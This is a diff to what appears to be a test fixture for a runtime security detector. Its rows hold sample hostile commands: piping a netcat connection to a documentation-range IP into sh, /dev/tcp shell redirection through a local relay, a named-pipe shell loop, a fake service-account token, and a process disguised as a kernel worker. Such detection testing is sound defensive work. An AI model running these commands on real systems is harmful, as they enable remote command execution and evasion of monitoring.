@@ -14,6 +14,8 @@ SYSCALL = "python3 -c 'import ctypes; ctypes.CDLL(None).syscall({})'"
 SERVE = ("import socket, subprocess, os; s = socket.create_server((\"0.0.0.0\", 8099)); "
          "c = socket.create_connection((\"127.0.0.1\", 8099)); a = s.accept()[0]; ")
 PYTHON = "python3 -c '{}'"
+RELAY = ("python3 -c 'import socket, subprocess; s = socket.create_server((\"127.0.0.1\", 8098)); "
+         "p = subprocess.Popen([\"bash\", \"-c\", \"{}\"], stdin=-3, stdout=-3); s.accept()[0].close(); p.wait()'")
 TOKEN = ("d=/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d; echo t > $d/token; ")
 UNIX = ("import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"{0}\"); s.listen(); "
         "socket.socket(socket.AF_UNIX).connect(\"{0}\")")
@@ -210,12 +212,15 @@ ROWS = {
          # behind pipes: one that goes in a circle, and from a tool that connects
          deed("mkfifo /opt/f; (echo exit > /opt/f) & sh < /opt/f | cat"),
          deed(bomb(actions="[(os.POSIX_SPAWN_DUP2, a.fileno(), 0)] if i == 300 else []")),
-         deed("nc -w 1 198.51.100.99 80 | sh", labels=OUT)],
+         deed("nc -w 1 198.51.100.99 80 | sh", labels=OUT),
+         # it took the connection itself, to who relays it in the pod
+         deed(RELAY.format("exec 0<>/dev/tcp/127.0.0.1/8098 1>&0; id; true"))],
         [deed(SPAWN.format("")),
          deed(PYTHON.format(GO + "import subprocess; "
                             "subprocess.run([\"/bin/sh\", \"-c\", \"cat\"], input=b\"x\")"), labels=OUT),
          deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/true\"], stdin=a, stdout=a)")),
-         deed("sh -c 'nc -w 1 -z 198.51.100.99 80'", labels=OUT)]),
+         deed("sh -c 'nc -w 1 -z 198.51.100.99 80'", labels=OUT),
+         deed(RELAY.format("exec 3<>/dev/tcp/127.0.0.1/8098; echo x >&3; cat <&3; id | cat; true"))]),
     "interactive-exec": ("a terminal from outside", "commands from outside"),
     "masquerade": (
         [deed("python3 -c 'import os; os.execv(\"/bin/true\", [\"[kworker/0:1]\"])'"),
